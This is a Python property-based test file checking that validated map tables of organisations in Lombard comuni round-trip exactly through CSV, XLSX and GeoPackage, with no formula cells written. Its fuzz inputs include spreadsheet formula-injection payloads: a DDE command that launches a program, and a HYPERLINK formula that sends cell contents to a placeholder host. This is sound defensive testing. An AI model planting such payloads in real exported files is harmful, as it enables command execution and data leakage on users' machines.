"""Property: whatever validates round-trips exactly through CSV, XLSX and GeoPackage.

Tables are generated with ``hypothesis``: arbitrary Unicode in names and notes,
formula-like strings, long strings, and random extra columns. Whatever the loader
accepts must come back identical from every format the project writes, and no
workbook may contain a formula cell.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from _xlsx_checks import assert_no_formulas
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import opportunity_map as om

COMUNI = ["Bergamo", "Seriate", "Dalmine", "Lecco", "Merate"]
FORMULAS = ["=1+1", "=HYPERLINK(\"http://x.example/\"&A1,\"Clicca\")", "+39 035 123",
            "-presa in carico", "@SUM(A1)", "=cmd|' /C calc'!A0", "=1+1\t=2"]

# printable text without the characters validation rejects (controls, bidi marks)
TEXT = st.text(st.characters(codec="utf-8", categories=("L", "M", "N", "P", "S", "Zs")),
               max_size=60)
CELL = st.one_of(TEXT, st.sampled_from(FORMULAS), TEXT.map(lambda t: (t * 200)[:5000]))
EXTRA = st.text(st.characters(categories=("Ll", "Lu", "Nd")), min_size=3, max_size=12).map(
    lambda t: f"campo_{t}")


@st.composite
def maps(draw: st.DrawFn) -> tuple[pd.DataFrame, pd.DataFrame]:
    n = draw(st.integers(2, 6))
    extras = draw(st.lists(EXTRA, max_size=3, unique_by=str.casefold))
    actors = pd.DataFrame({
        "id": [f"A-{i}" for i in range(n)],
        "name": [draw(CELL).strip() or f"Organizzazione {i}" for i in range(n)],
        "kind": draw(st.lists(st.sampled_from(["impresa", "cooperativa_b",
                                               "collocamento_mirato"]), min_size=n,
                              max_size=n)),
        "comune": draw(st.lists(st.sampled_from(COMUNI), min_size=n, max_size=n)),
        "notes": [draw(CELL) for _ in range(n)],
        **{c: [draw(CELL) for _ in range(n)] for c in extras},
    })
    relations = pd.DataFrame({
        "source": ["A-0"], "target": ["A-1"], "kind": ["invio"], "level": [2],
        "notes": [draw(CELL)],
    })
    return actors, relations


def _cells(m: om.OpportunityMap, columns: list[str]) -> list[list[str]]:
    frame = pd.DataFrame(m.actors[columns]).fillna("")
    return frame.astype(str).to_numpy().tolist()


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(tables=maps())
def test_what_validates_round_trips_through_every_format(
        tmp_path_factory: pytest.TempPathFactory,
        tables: tuple[pd.DataFrame, pd.DataFrame]) -> None:
    actors, relations = tables
    folder = tmp_path_factory.mktemp("map")
    actors.to_csv(folder / "actors.csv", index=False, encoding="utf-8")
    relations.to_csv(folder / "relations.csv", index=False, encoding="utf-8")
    problems = om.validate(folder)  # never raises
    if any(p.severity == "error" for p in problems):
        return
    m = om.load(folder)
    columns = [c for c in actors.columns if c != "id"]
    expected = _cells(m, ["id", *columns])
    assert [row[1] for row in expected] == actors["name"].tolist()
    for name in ("copia_csv", "copia.xlsx", "copia.gpkg"):
        path = om.save(m, folder.parent / f"{folder.name}-{name}")
        back = om.load(path)
        assert _cells(back, ["id", *columns]) == expected, name
        assert back.relations["notes"].fillna("").tolist() == \
            m.relations["notes"].fillna("").tolist() == \
            [str(v).strip() for v in relations["notes"]], name
        if path.suffix == ".xlsx":
            assert_no_formulas(Path(path))
